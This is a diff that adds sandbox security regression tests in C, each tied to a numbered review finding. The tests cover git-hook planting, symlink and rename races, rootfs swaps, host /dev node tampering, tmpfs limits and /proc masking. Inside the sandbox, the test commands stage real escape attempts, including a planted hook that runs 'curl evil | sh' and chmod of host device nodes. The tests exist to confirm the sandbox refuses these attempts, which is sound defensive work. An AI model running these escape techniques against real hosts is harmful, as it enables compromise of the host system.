@@ -8,6 +8,8 @@
 
 #include <arpa/inet.h>
 #include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
 #include <netinet/in.h>
 #include <signal.h>
 #include <stdio.h>
@@ -361,6 +363,358 @@ static void case_22_to_29(struct zb_session *s, int port, const char *abstract,
 	check(r.exit.signal == SIGSYS, "29: x32 system call kills the process");
 }
 
+/* A session of its own on `zones` (YAML list items, host paths relative to `base`), with the
+ * attack zone /att added. */
+static struct zb_config *zones_config(const char *session, const char *zones)
+{
+	char yaml[2000];
+	snprintf(yaml, sizeof(yaml),
+		 "sandbox:\n"
+		 "  backend: namespace\n"
+		 "  session: %s\n"
+		 "  zones:\n"
+		 "%s"
+		 "    - {name: att, mode: ro, hostPath: %s}\n",
+		 session, zones, attack_dir);
+	struct zb_error *err = NULL;
+	struct zb_config *cfg = zb_config_load_string(yaml, strlen(yaml), "test", base, &err);
+	if (!cfg) {
+		printf("Bail out! config: %s\n", err->msg);
+		exit(1);
+	}
+	return cfg;
+}
+
+static void host_mkdir(const char *rel)
+{
+	char p[400];
+	snprintf(p, sizeof(p), "%s/%s", base, rel);
+	if (mkdir(p, 0755) < 0 && errno != EEXIST)
+		printf("# mkdir %s: %s\n", p, strerror(errno));
+}
+
+static void host_symlink(const char *target, const char *rel)
+{
+	char p[400];
+	snprintf(p, sizeof(p), "%s/%s", base, rel);
+	if (symlink(target, p) < 0)
+		printf("# symlink %s: %s\n", p, strerror(errno));
+}
+
+static bool host_exists(const char *rel)
+{
+	char p[400];
+	struct stat st;
+	snprintf(p, sizeof(p), "%s/%s", base, rel);
+	return lstat(p, &st) == 0;
+}
+
+/* The host file `rel` holds exactly `text`. */
+static bool host_holds(const char *rel, const char *text)
+{
+	char p[400], buf[256];
+	snprintf(p, sizeof(p), "%s/%s", base, rel);
+	int fd = open(p, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
+	if (fd < 0)
+		return false;
+	ssize_t n = read(fd, buf, sizeof(buf) - 1);
+	close(fd);
+	buf[n > 0 ? n : 0] = '\0';
+	return strcmp(buf, text) == 0;
+}
+
+/* Run `argv` where the sandbox must not be built; `r` ends up with the build error. The
+ * backend at times reports only that the sandbox ended before it was ready, or died, instead
+ * of the helper's message (the message races the sandbox init's exit; not what these tests
+ * are about), so a generic report is retried up to two more times. */
+static void run_refused(struct zb_session *s, struct result *r, char **argv)
+{
+	for (int i = 0; i < 3; i++) {
+		struct zb_run run;
+		if (start(b, s, &run, r, argv, "/", NULL) == 0)
+			wait_done(r, 10000);
+		if (!r->exit.error || strstr(r->exit.error, "could not be built"))
+			return;
+		printf("# retrying after: %s\n", r->exit.error);
+	}
+}
+
+#define HOOK "#!/bin/sh\nexit 0\n"
+
+/* Review finding 3: only the protected path itself was a mount point, and the kernel refuses
+ * to rename a mount point but not its parents. `mv .git .git-old && mkdir -p .git/hooks`
+ * then put the attacker's hook where the host's git runs it. */
+static void case_protect_rename(void)
+{
+	host_mkdir("p3");
+	host_mkdir("p3/.git");
+	host_mkdir("p3/.git/hooks");
+	write_file("p3/.git/hooks/pre-commit", HOOK);
+	host_mkdir("p3/tools");
+	host_mkdir("p3/tools/ci");
+	host_mkdir("p3/tools/ci/scripts");
+	write_file("p3/tools/ci/scripts/deploy", HOOK);
+	struct zb_config *cfg =
+		zones_config("per-call", "    - {name: proj, mode: rw, hostPath: p3, protect: "
+					 "[.git/hooks, tools/ci/scripts]}\n");
+	struct zb_session *s = open_session(cfg);
+	struct result r;
+	sh(b, s, &r,
+	   "cd /proj && mv .git .git-old && mkdir -p .git/hooks && "
+	   "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit");
+	check(r.exit.exit_code != 0 && strstr(r.err, "busy") &&
+		      host_holds("p3/.git/hooks/pre-commit", HOOK) && !host_exists("p3/.git-old"),
+	      "protect: `mv .git .git-old` fails with EBUSY, the host's hook is unchanged");
+	sh(b, s, &r,
+	   "cd /proj; for m in 'tools t2' 'tools/ci tools/c2' 'tools/ci/scripts tools/ci/s2' "
+	   "'.git/hooks .git/h2'; do mv $m 2>/dev/null && echo moved $m; done; "
+	   "rm -rf tools .git 2>/dev/null; mkdir -p tools/ci/scripts; "
+	   "echo evil > tools/ci/scripts/deploy; echo evil > .git/hooks/pre-commit; true");
+	check(r.out_len == 0 && host_holds("p3/tools/ci/scripts/deploy", HOOK) &&
+		      host_holds("p3/.git/hooks/pre-commit", HOOK),
+	      "protect: no folder between the zone and a protected path can be moved or removed");
+	sh(b, s, &r,
+	   "echo ok > /proj/.git/config && echo ok > /proj/tools/ci/x && "
+	   "awk '$5 ~ /^\\/proj/ && ($6 !~ /nosuid/ || $6 !~ /nodev/) {print}' "
+	   "/proc/self/mountinfo");
+	check(r.exit.exit_code == 0 && r.out_len == 0,
+	      "protect: the folders on the way stay writable, and are nosuid, nodev");
+	close_session(b, s);
+	zb_config_free(cfg);
+}
+
+/* Review finding 4: a protected path that is itself a symbolic link was accepted (openat2
+ * with O_NOFOLLOW returns the link): the link was mounted read-only, and writes through it
+ * landed wherever it pointed. */
+static void case_protect_symlink(void)
+{
+	host_mkdir("p4");
+	host_mkdir("p4/.git");
+	host_mkdir("p4/elsewhere");
+	host_symlink("../elsewhere", "p4/.git/hooks");
+	struct zb_config *cfg = zones_config(
+		"per-call", "    - {name: proj, mode: rw, hostPath: p4, protect: [.git/hooks]}\n");
+	struct zb_session *s = open_session(cfg);
+	struct result r;
+	char *evil[] = {"/bin/sh", "-c", "echo evil > /proj/.git/hooks/pre-commit", NULL};
+	run_refused(s, &r, evil);
+	check(r.exit.error && strstr(r.exit.error, "symbolic link") &&
+		      !host_exists("p4/elsewhere/pre-commit"),
+	      "protect: a protected path that is a symlink is refused (%s)",
+	      r.exit.error ? r.exit.error : "no error");
+	close_session(b, s);
+	zb_config_free(cfg);
+}
+
+/* Review finding 8: a missing protected path was created with mkdirat(zone, ".git/hooks"),
+ * which follows `.git` when it has become a symbolic link since it was found missing: a
+ * sandbox that swaps .git between "missing" and "link to any host folder" got folders created
+ * there by the next sandbox build (as root, in root mode). A child of the test plays that
+ * sandbox here, on the host side of the zone, so that the race is run often enough. */
+static void case_protect_create(void)
+{
+	/* Outside /tmp: the staging tmpfs covers the host's /tmp while the sandbox is built. */
+	char target[64] = "/var/tmp/zb-sectest-p8-XXXXXX", hooks[100];
+	if (!mkdtemp(target)) {
+		skip("protect: creating a missing protected path never follows a symlink",
+		     "cannot make a folder in /var/tmp");
+		return;
+	}
+	snprintf(hooks, sizeof(hooks), "%s/hooks", target);
+	host_mkdir("p8");
+	host_symlink(target, "p8/.git");
+	struct zb_config *cfg = zones_config(
+		"per-call", "    - {name: proj, mode: rw, hostPath: p8, protect: [.git/hooks]}\n");
+	struct zb_session *s = open_session(cfg);
+	struct result r;
+	struct stat st;
+	char *argv_true[] = {"true", NULL};
+	run_refused(s, &r, argv_true);
+	check(r.exit.error && strstr(r.exit.error, "symbolic link") && lstat(hooks, &st) < 0,
+	      "protect: a protected path under a symlink is refused (%s)",
+	      r.exit.error ? r.exit.error : "no error");
+
+	char git[300], link[300], sub[320];
+	snprintf(git, sizeof(git), "%s/p8/.git", base);
+	snprintf(link, sizeof(link), "%s/p8/.git-link", base);
+	snprintf(sub, sizeof(sub), "%s/hooks", git);
+	unlink(git);
+	pid_t swapper = fork();
+	if (swapper == 0) {
+		for (;;) {
+			symlink(target, link);
+			if (rename(link, git) < 0) { /* a build made it a folder */
+				rmdir(sub);
+				rmdir(git);
+			}
+			unlink(git);
+		}
+	}
+	/* Most builds fail while the path changes under them; the backend logs each failure. */
+	int saved_stderr = dup(2), devnull = open("/dev/null", O_WRONLY | O_CLOEXEC);
+	dup2(devnull, 2);
+	int builds = 0, created = 0;
+	for (; builds < 300 && !created; builds++) {
+		char *argv[] = {"true", NULL};
+		struct zb_run run;
+		if (start(b, s, &run, &r, argv, NULL, NULL) == 0)
+			wait_done(&r, 10000);
+		created = lstat(hooks, &st) == 0;
+	}
+	dup2(saved_stderr, 2);
+	close(saved_stderr);
+	close(devnull);
+	kill(swapper, SIGKILL);
+	waitpid(swapper, NULL, 0);
+	check(!created,
+	      "protect: creating a missing protected path never follows a symlink swapped in "
+	      "meanwhile (%d builds)",
+	      builds);
+	rmdir(hooks);
+	rmdir(target);
+	close_session(b, s);
+	zb_config_free(cfg);
+}
+
+/* A zone's host folder swapped for a symbolic link after the configuration was loaded (and
+ * made canonical) must be refused, not followed to wherever the link points. */
+static void case_zone_swapped(void)
+{
+	host_mkdir("swap");
+	host_mkdir("other");
+	write_file("other/secret", "host secret\n");
+	struct zb_config *cfg =
+		zones_config("per-call", "    - {name: sw, mode: ro, hostPath: swap}\n");
+	char from[400], to[400];
+	snprintf(from, sizeof(from), "%s/swap", base);
+	snprintf(to, sizeof(to), "%s/swap-old", base);
+	rename(from, to);
+	host_symlink("other", "swap");
+	struct zb_session *s = open_session(cfg);
+	struct result r;
+	char *cat[] = {"/bin/sh", "-c", "cat /sw/secret", NULL};
+	run_refused(s, &r, cat);
+	check(r.exit.error && strstr(r.exit.error, "symbolic link") && !strstr(r.out, "secret"),
+	      "a zone's host folder replaced by a symlink after loading is refused (%s)",
+	      r.exit.error ? r.exit.error : "no error");
+	close_session(b, s);
+	zb_config_free(cfg);
+}
+
+/* The same for sandbox.rootfs: swapped for a link to the host's / after loading, the old
+ * helper mounted the host's top-level folders (/root, /home...) as the sandbox's. */
+static void case_rootfs_swapped(void)
+{
+	host_mkdir("rootfs");
+	host_mkdir("rootfs/usr");
+	host_mkdir("rootfs/etc");
+	host_symlink("usr/bin", "rootfs/bin");
+	char yaml[1000];
+	snprintf(yaml, sizeof(yaml),
+		 "sandbox:\n"
+		 "  backend: namespace\n"
+		 "  session: per-call\n"
+		 "  rootfs: rootfs\n"
+		 "  zones:\n"
+		 "    - {name: att, mode: ro, hostPath: %s}\n",
+		 attack_dir);
+	struct zb_error *err = NULL;
+	struct zb_config *cfg = zb_config_load_string(yaml, strlen(yaml), "test", base, &err);
+	if (!cfg) {
+		check(false, "rootfs config: %s", err->msg);
+		zb_error_free(err);
+		return;
+	}
+	struct zb_session *s = open_session(cfg);
+	struct result r;
+	struct zb_run run;
+	char *argv[] = {"/att/zb-attack", "fds", NULL};
+	if (start(b, s, &run, &r, argv, "/", NULL) == 0)
+		wait_done(&r, 10000);
+	check(r.done && !r.exit.error && strcmp(r.out, "fd 0\nfd 1\nfd 2\n") == 0,
+	      "a sandbox on a rootfs folder runs (%s)", r.exit.error ? r.exit.error : "ok");
+	char from[400], to[400];
+	snprintf(from, sizeof(from), "%s/rootfs", base);
+	snprintf(to, sizeof(to), "%s/rootfs-old", base);
+	rename(from, to);
+	host_symlink("/", "rootfs");
+	/* A fresh session: per-call sessions build the next sandbox ahead of time. */
+	close_session(b, s);
+	s = open_session(cfg);
+	run_refused(s, &r, argv);
+	check(r.exit.error && strstr(r.exit.error, "symbolic link") && r.out_len == 0,
+	      "a rootfs replaced by a symlink after loading is refused (%s)",
+	      r.exit.error ? r.exit.error : "no error");
+	close_session(b, s);
+	zb_config_free(cfg);
+}
+
+/* Review finding 5: the host's device nodes were bound read-write, so uid 0 in the sandbox
+ * (root mode) could chmod or touch the host's /dev nodes: `chmod 0 /dev/null` breaks the
+ * host. */
+static void case_dev_nodes(struct zb_session *s)
+{
+	struct stat before = {0}, after = {0};
+	stat("/dev/full", &before);
+	struct result r;
+	sh(b, s, &r,
+	   "chmod 0 /dev/full; echo chmod=$?; touch -d 2001-01-01 /dev/full; echo touch=$?; "
+	   "echo x > /dev/null; echo null=$?; head -c 4 /dev/zero | wc -c");
+	stat("/dev/full", &after);
+	bool same = before.st_mode == after.st_mode &&
+		    before.st_mtim.tv_sec == after.st_mtim.tv_sec &&
+		    before.st_mtim.tv_nsec == after.st_mtim.tv_nsec;
+	check(same && strstr(r.out, "null=0\n4\n") && !strstr(r.out, "chmod=0") &&
+		      !strstr(r.out, "touch=0"),
+	      "14: chmod and touch of /dev/full fail, the host's node is unchanged, /dev/null "
+	      "still takes writes");
+	if (!same && geteuid() == 0) { /* repair the host */
+		chmod("/dev/full", before.st_mode & 07777);
+		struct timespec ts[2] = {before.st_atim, before.st_mtim};
+		utimensat(AT_FDCWD, "/dev/full", ts, 0);
+	}
+}
+
+/* Review finding 9: /tmp and /dev/shm had no size, so tmpfs took up to half the host's RAM
+ * (and, in a persistent session, kept it charged to the sandbox). */
+static void case_tmp_size(struct zb_session *s)
+{
+	struct result r;
+	sh(b, s, &r, "head -c 100000000 /dev/zero > /tmp/fill; r=$?; rm -f /tmp/fill; exit $r");
+	check(r.exit.exit_code != 0 && strstr(r.err, "No space left on device"),
+	      "18: filling /tmp stops with ENOSPC at its size");
+	sh(b, s, &r,
+	   "head -c 40000000 /dev/zero > /dev/shm/fill; r=$?; rm -f /dev/shm/fill; exit $r");
+	check(r.exit.exit_code != 0 && strstr(r.err, "No space left on device"),
+	      "18: filling /dev/shm stops with ENOSPC at its size");
+	sh(b, s, &r,
+	   "awk '$5==\"/tmp\"||$5==\"/dev/shm\"||$5==\"/scratch\" {print $5, $NF}' "
+	   "/proc/self/mountinfo");
+	int limited = 0;
+	for (char *p = r.out; (p = strstr(p, "nr_inodes=")); p++)
+		limited++;
+	check(limited == 3, "18: /tmp, /dev/shm and tmpfs zones have an inode limit");
+}
+
+/* Review finding 10: in root mode /proc/kpageflags, kpagecount, slabinfo and similar files
+ * (physical memory layout, kernel heap state: help for kernel exploits) were readable. They
+ * are masked in both modes, as Docker does. */
+static void case_proc_masked(struct zb_session *s)
+{
+	struct result r;
+	sh(b, s, &r,
+	   "for p in kcore keys kpagecount kpageflags kpagecgroup slabinfo timer_list "
+	   "timer_stats sched_debug latency_stats; do f=/proc/$p; test -e $f || continue; "
+	   "n=$(head -c 64 $f 2>/dev/null | wc -c); test $n -gt 0 && echo readable $f; "
+	   "awk -v f=$f '$5==f {m=1} END {exit !m}' /proc/self/mountinfo || echo unmasked $f; "
+	   "done; for d in acpi asound scsi; do test -d /proc/$d && test -n \"$(ls -A /proc/$d)\" "
+	   "&& echo listed /proc/$d; done; true");
+	check(r.exit.exit_code == 0 && r.out_len == 0,
+	      "24: /proc/kpageflags, kpagecount, slabinfo, kcore, keys, timer_list... are masked");
+	for (char *l = strtok(r.out, "\n"); l; l = strtok(NULL, "\n"))
+		printf("# %s\n", l);
+}
+
 static void case_26_host(void)
 {
 	struct zb_config *cfg = config("per-call", "host");
@@ -430,6 +784,9 @@ int main(int argc, char **argv)
 
 	struct zb_session *s = open_session(cfg);
 	case_12_to_15(s);
+	case_dev_nodes(s);
+	case_tmp_size(s);
+	case_proc_masked(s);
 	case_16_to_20(s);
 	case_22_to_29(s, ntohs(a.sin_port), abstract, unix_path);
 	close_session(b, s);
@@ -443,6 +800,11 @@ int main(int argc, char **argv)
 	close_session(b, s);
 	case_21(pc);
 	case_26_host();
+	case_protect_rename();
+	case_protect_symlink();
+	case_protect_create();
+	case_zone_swapped();
+	case_rootfs_swapped();
 	zb_config_free(pc);
 	zb_config_free(cfg);
 	close(tcp);
